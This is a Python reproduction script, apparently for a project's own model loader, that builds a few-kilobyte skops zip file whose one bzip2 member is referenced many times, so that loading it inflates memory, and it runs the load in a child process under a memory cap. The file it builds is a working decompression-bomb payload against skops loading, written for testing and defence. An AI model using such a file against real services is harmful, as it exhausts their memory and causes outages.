"""A few-kB skops file whose one member inflates to MB megabytes (bzip2), referenced by REFS
array nodes: skops reads the whole member once per reference while it builds its node tree
(get_untrusted_types, then loads), before any check of ours or numpy's, so memory grows as
MB x REFS from a file of a few kB. The child runs under an address-space cap (ulimit -v) so it
dies with MemoryError instead of taking the machine down.
Run: python repro/skops_zip_bomb.py [MB] [REFS] [CAP_MB]   (writes /tmp/zip_bomb.skops)"""
import json
import os
import resource
import subprocess
import sys
import zipfile

MB = int(sys.argv[1]) if len(sys.argv) > 1 else 256
REFS = int(sys.argv[2]) if len(sys.argv) > 2 else 16
CAP = int(sys.argv[3]) if len(sys.argv) > 3 else 3072
path = "/tmp/zip_bomb.skops"
array = {"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode",
         "type": "numpy", "file": "a.npy"}
schema = {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode",
          "content": [dict(array) for _ in range(REFS)], "protocol": 2,
          "_skops_version": "0.16.0"}
with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_BZIP2) as archive:
    archive.writestr("schema.json", json.dumps(schema))
    with archive.open("a.npy", "w", force_zip64=True) as member:
        chunk = bytes(1 << 20)
        for _ in range(MB):
            member.write(chunk)
print(f"file {os.path.getsize(path)} bytes; would inflate to {MB * REFS} MB")


def cap():
    resource.setrlimit(resource.RLIMIT_AS, (CAP << 20, CAP << 20))


code = (
    "import resource, sys\n"
    "from veritas_dsl.model import load_model\n"
    "try:\n"
    f"    load_model({path!r})\n"
    "except BaseException as e:\n"
    "    print(type(e).__name__, str(e)[:300])\n"
    "print('peak RSS MB', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss >> 10)\n"
)
child = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                       preexec_fn=cap)
print("exit", child.returncode)
print(child.stdout[-1000:], child.stderr[-1000:])
